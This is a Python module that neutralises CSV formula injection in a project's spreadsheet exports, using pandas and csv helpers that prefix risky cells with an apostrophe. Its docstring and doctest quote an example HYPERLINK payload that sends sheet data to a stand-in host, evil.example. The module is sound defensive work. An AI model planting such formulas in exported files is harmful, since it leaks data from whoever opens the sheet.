"""CSV output that spreadsheets cannot execute (CSV / formula injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets: a misconduct record named
``=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")`` would send the sheet's data away when a
reviewer opens ``hits.csv``. Every CSV peacewatch writes goes through :func:`safe_frame` (pandas)
or :func:`safe_row` (``csv`` module), which prefix such text cells with an apostrophe (OWASP's
advice); the spreadsheet then shows the text as typed. Numbers stay numbers: numeric columns are
never touched, and a text cell that is a plain number (``-3.5``, ``+41``) is left as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas is imported only when a frame is written, so CLIs start fast
    import pandas as pd

#: First characters that make a spreadsheet evaluate a cell (plus their full-width forms).
TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """Return ``value`` safe for a CSV cell: text starting with a trigger gets a leading ``'``.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")')[:11]
    "'=HYPERLINK"
    >>> neutralise("-3.5"), neutralise(-3.5), neutralise("Ahmed Karimov")
    ('-3.5', -3.5, 'Ahmed Karimov')
    """
    if isinstance(value, str) and value and value[0] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _safe_index(index: pd.Index) -> pd.Index:
    import pandas as pd

    if isinstance(index, pd.MultiIndex):
        return pd.MultiIndex.from_arrays(
            [_safe_index(index.get_level_values(i)) for i in range(index.nlevels)], names=index.names
        )
    if index.dtype == object or pd.api.types.is_string_dtype(index.dtype):
        return pd.Index([neutralise(v) for v in index], name=index.name, dtype=object)
    return index


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` (a DataFrame or Series) whose text cells and labels are neutralised.

    Only object, string and categorical columns are looked at, so numeric columns keep their type.
    """
    import pandas as pd

    if isinstance(df, pd.Series):
        out = df.copy()
        if out.dtype == object or pd.api.types.is_string_dtype(out.dtype):
            out = out.map(neutralise)
        out.index = _safe_index(out.index)
        return out
    out = df.copy()
    for col in out.columns:
        series = out[col]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[col] = series.map(neutralise) if len(series) else series
    out.index = _safe_index(out.index)
    out.columns = _safe_index(out.columns)
    return out


def to_csv(df: pd.DataFrame, path_or_buf: Any = None, **kwargs: Any) -> str | None:
    """``DataFrame.to_csv`` on :func:`safe_frame` (same arguments, same return value)."""
    return safe_frame(df).to_csv(path_or_buf, **kwargs)


def safe_row(row: Mapping[str, Any] | Iterable[Any]) -> Any:
    """A row for ``csv.writer`` (sequence) or ``csv.DictWriter`` (mapping) with cells neutralised."""
    if isinstance(row, Mapping):
        return {k: neutralise(v) for k, v in row.items()}
    return [neutralise(v) for v in row]
